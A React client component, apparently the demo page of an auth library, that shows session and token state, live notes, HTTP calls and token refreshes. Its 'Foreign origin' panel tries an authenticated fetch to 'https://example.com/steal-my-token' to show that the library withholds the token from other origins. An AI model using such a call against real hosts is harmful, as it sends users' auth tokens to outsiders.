"use client";
import { useEffect, useRef, useState, type FormEvent } from "react";
import { useMutation, useQuery } from "convex/react";
import { useAuthActions, useConvexAuth, useSession, useSessionManager } from "convex-auth-wasm/react";
import type { ConvexAuthError } from "convex-auth-wasm/client";
import { api } from "@/convex/_generated/api";
import { useMode } from "./providers";

type Refresh = { at: string; expiresAt: number };
const describe = (e: unknown) => `${(e as ConvexAuthError).code ?? "ERR_UNKNOWN"}: ${(e as Error).message}`;

export function Dashboard() {
  const state = useSession();
  const mode = useMode();
  const { signOut } = useAuthActions();
  if (state.isLoading) return <p id="loading">Loading session…</p>;
  if (!state.isAuthenticated) {
    return (
      <>
        <p id="signed-out">Signed out. <a href="/">Sign in</a></p>
        <LiveNotes />
      </>
    );
  }
  const leave = async () => {
    await signOut();
    location.href = "/";
  };
  return (
    <>
      <section>
        <p>
          Signed in (<strong>{mode}</strong> mode) as user <code id="user-id">{state.userId}</code>, session{" "}
          <code>{state.sessionId}</code>
        </p>
        <TokenStatus />
        <button onClick={leave} id="sign-out">Sign out</button>
      </section>
      <LiveNotes />
      <HttpPanels />
      <RefreshLog />
      <ForeignOrigin />
    </>
  );
}

function TokenStatus() {
  const state = useSession();
  const [now, setNow] = useState(() => Date.now());
  useEffect(() => {
    const timer = setInterval(() => setNow(Date.now()), 1000);
    return () => clearInterval(timer);
  }, []);
  const left = state.expiresAt ? Math.max(0, Math.round(state.expiresAt - now / 1000)) : null;
  return (
    <p>
      Token expires in <strong id="expires-in">{left}</strong> s{state.isRefreshing ? " — refreshing…" : ""}
      {state.refreshFailures > 0 && (
        <span className="error" id="refresh-failures">
          {" "}— {state.refreshFailures} failed refresh(es), retrying ({state.lastError?.code}); still signed in
        </span>
      )}
    </p>
  );
}

/** A live, per-user query over the WebSocket: every tab updates when any of them adds a note. */
function LiveNotes() {
  const { isLoading, isAuthenticated } = useConvexAuth();
  const notes = useQuery(api.notes.list);
  const addNote = useMutation(api.notes.add);
  const [error, setError] = useState<string | null>(null);
  async function add(event: FormEvent<HTMLFormElement>) {
    event.preventDefault();
    const form = event.currentTarget;
    const text = String(new FormData(form).get("text") ?? "");
    setError(null);
    try {
      await addNote({ text });
      form.reset();
    } catch (e) {
      setError((e as Error).message);
    }
  }
  return (
    <section>
      <h2>Live notes (ConvexReactClient over the WebSocket)</h2>
      <p>
        <code>useConvexAuth()</code>: <strong id="convex-auth">{isLoading ? "loading" : isAuthenticated ? "authenticated" : "unauthenticated"}</strong>
      </p>
      {notes === undefined ? (
        <p id="notes-state">loading</p>
      ) : notes === null ? (
        <p id="notes-state">signed out: no notes</p>
      ) : (
        <>
          <p id="notes-state">{notes.length} note(s)</p>
          <ul id="notes">
            {notes.map((note) => (
              <li key={note.id}>{note.text}</li>
            ))}
          </ul>
        </>
      )}
      {isAuthenticated && (
        <form id="note-form" onSubmit={add}>
          <input name="text" id="note-text" required maxLength={500} placeholder="A note, seen in every tab" />
          <button type="submit" id="add-note">Add</button>
        </form>
      )}
      {error && <p className="error">{error}</p>}
    </section>
  );
}

/** An HTTP action on the site origin (the authed fetch) and a query over the HTTP API. */
function HttpPanels() {
  const session = useSessionManager();
  const { isAuthenticated } = useSession();
  const [identity, setIdentity] = useState<unknown>(null);
  const [me, setMe] = useState<unknown>(null);
  async function whoami() {
    if (!session) return;
    try {
      const res = await session.fetch("/whoami");
      setIdentity({ status: res.status, body: await res.json() });
    } catch (e) {
      setIdentity({ error: (e as ConvexAuthError).code, message: (e as Error).message });
    }
  }
  useEffect(() => {
    if (!session || !isAuthenticated) return;
    void whoami();
    session.query(api.users.me).then(setMe, (e: ConvexAuthError) => setMe({ error: e.code }));
    // eslint-disable-next-line react-hooks/exhaustive-deps
  }, [session, isAuthenticated]);
  return (
    <section>
      <h2>HTTP action <code>/whoami</code> on the site origin</h2>
      <button onClick={whoami}>Call again</button>
      <pre id="whoami">{JSON.stringify(identity, null, 2)}</pre>
      <h2>Query <code>users:me</code> over the HTTP API</h2>
      <pre id="me">{JSON.stringify(me, null, 2)}</pre>
    </section>
  );
}

function RefreshLog() {
  const { expiresAt } = useSession();
  const [refreshes, setRefreshes] = useState<Refresh[]>([]);
  const last = useRef<number | null>(null);
  useEffect(() => {
    if (expiresAt && expiresAt !== last.current) {
      last.current = expiresAt;
      setRefreshes((list) => [...list, { at: new Date().toLocaleTimeString(), expiresAt }]);
    }
  }, [expiresAt]);
  return (
    <section>
      <h2>Token refreshes</h2>
      <ol id="refreshes">
        {refreshes.map((r, i) => (
          <li key={i}>{r.at}: new token, exp {r.expiresAt}</li>
        ))}
      </ol>
    </section>
  );
}

function ForeignOrigin() {
  const session = useSessionManager();
  const [foreign, setForeign] = useState<string | null>(null);
  async function tryForeign() {
    try {
      await session!.fetch("https://example.com/steal-my-token");
      setForeign("sent?!");
    } catch (e) {
      setForeign(describe(e));
    }
  }
  return (
    <section>
      <h2>Foreign origin</h2>
      <p className="muted">The authed fetch only ever sends the token to the deployment&apos;s site origin.</p>
      <button onClick={tryForeign} id="try-foreign">fetch(&quot;https://example.com/steal-my-token&quot;)</button>
      {foreign && <p className="error" id="foreign">{foreign}</p>}
    </section>
  );
}
